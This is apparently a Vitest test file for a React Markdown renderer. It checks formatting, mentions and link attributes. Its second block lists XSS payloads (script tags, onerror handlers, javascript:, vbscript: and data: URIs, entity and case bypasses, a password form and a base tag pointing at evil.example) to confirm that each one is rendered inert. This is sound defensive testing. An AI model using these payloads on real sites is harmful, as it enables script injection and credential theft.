import { MantineProvider } from '@mantine/core';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import Markdown from './markdown';
import { mentionLink } from './mentions';

const ADA = { id: '018f0000-0000-7000-8000-000000000001', name: 'Ada Byron' };

/** The text as the page shows it, without the styles around. */
function rendered(text: string): string {
  const html = renderToStaticMarkup(
    <MantineProvider>
      <Markdown text={text} />
    </MantineProvider>,
  );
  return html.slice(html.indexOf('Typography-root'));
}

describe('what somebody wrote', () => {
  it('is formatted: emphasis, lists, tables, quotes, code', () => {
    const html = rendered('**a**\n\n- b\n\n> c\n\n| d |\n| - |\n| e |\n\n```\nf < g\n```');
    for (const part of ['<strong>a', '<li>b', '<blockquote>', '<td>e', '<code>f &lt; g']) {
      expect(html).toContain(part);
    }
  });

  it('shows a mention as a name, which leads nowhere', () => {
    const html = rendered(`Ask ${mentionLink(ADA)}`);
    expect(html).toContain('>@Ada Byron</span>');
    expect(html).not.toContain('href');
  });

  it('opens links apart from the app, and vouches for none', () => {
    expect(rendered('[a](https://example.com)')).toContain(
      '<a href="https://example.com" rel="noopener noreferrer nofollow" target="_blank">a</a>',
    );
  });
});

describe('what somebody hostile wrote', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\nscript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](vbscript:msgbox(1))',
    '![x](javascript:alert(1))',
    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
    '<javascript:alert(1)>',
    '[x]: javascript:alert(1)\n\n[x]',
    '<style>*{display:none}</style>',
    '<form action="https://evil.example"><input name=password></form>',
    '<base href="https://evil.example/">',
    '<math><mtext><img src=x onerror=alert(1)>',
    '[x](mention:javascript:alert(1))',
    '[x](mention:not-an-id)',
    `[x](mention:${ADA.id}" onmouseover="alert(1))`,
  ])('is text, and nothing else: %s', (text) => {
    const tags = rendered(text).match(/<[^>]*>/g) ?? [];
    for (const tag of tags) {
      expect(tag).toMatch(/^<\/?(?:p|a|img|span|div|code|pre|em|strong|li|ul)\b/);
      expect(tag).not.toMatch(/javascript|vbscript|data:|mention:|\son\w+=|evil|style=/i);
    }
  });
});
